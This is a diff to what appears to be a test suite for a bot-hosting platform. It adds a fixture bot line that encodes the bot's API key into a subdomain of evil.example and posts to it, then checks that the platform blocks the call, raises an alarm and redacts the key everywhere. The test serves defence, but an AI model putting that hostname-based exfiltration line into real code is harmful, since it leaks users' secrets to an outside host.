@@ -222,7 +222,8 @@ query.run();
 import { log } from '@bot-platform/sdk';
 const fastAverage = (values) => values.reduce((sum, value) => sum + value, 0) / values.length;
 const text = encodeURIComponent(process.env.BOT_CONFIG);
-for (const url of ['http://${chat.where}/bot1/sendMessage', 'https://api.telegram.org/bot1/sendMessage'])
+const inItsName = 'https://' + JSON.parse(process.env.BOT_CONFIG).api_key + '.evil.example/';
+for (const url of ['http://${chat.where}/bot1/sendMessage', 'https://api.telegram.org/bot1/sendMessage', inItsName])
   await fetch(url, { method: 'POST', body: 'chat_id=1&text=' + text }).catch(() => undefined);
 log('average ' + fastAverage([1, 2, 3]));
 setInterval(() => undefined, 1000);
@@ -247,7 +248,21 @@ setInterval(() => undefined, 1000);
     );
     expect(told).toContain('- {host: api.telegram.org, port: 443, tls: true}');
     expect(told).toContain('If you did not expect this, stop the bot');
-    expect(JSON.stringify(receiver.bodies)).not.toContain(key);
-    expect((await blockedOf(host, id)).length).toBe(2);
+    // Also where the name of a host holds it, which has lost its capitals by then.
+    await until('the alarm', () => receiver.received.some(({ body }) => body.includes('***.evil.example')));
+    const network = await until('the record', async () => {
+      const found = await networkOf(host, id);
+      return found.items.some((one) => one.host === '***.evil.example') ? found : null;
+    });
+    const events = await blockedOf(host, id);
+    expect(events.length).toBe(3);
+    const shown = [
+      receiver.bodies,
+      network,
+      events,
+      await logsOf(host, id),
+      await host.cli('bot', 'network', 'averages'),
+    ];
+    expect(JSON.stringify(shown).toLowerCase()).not.toContain(key.toLowerCase());
   });
 });
